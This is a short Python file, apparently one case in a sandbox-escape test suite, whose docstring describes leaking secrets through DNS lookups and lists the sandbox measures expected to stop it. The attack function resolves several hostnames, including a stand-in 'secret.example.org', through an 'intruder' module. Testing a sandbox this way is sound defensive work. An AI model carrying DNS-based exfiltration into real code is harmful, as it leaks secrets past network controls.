"""Smuggles a secret out in the name that it has resolved.

aim: secrets
stopped by: no network, no resolver, and seccomp refuses the socket to ask one
"""

import intruder


def attack():
    names = ("localhost.localdomain", "secret.example.org", "1.1.1.1.in-addr.arpa")
    return {name: intruder.resolve(name) for name in names}
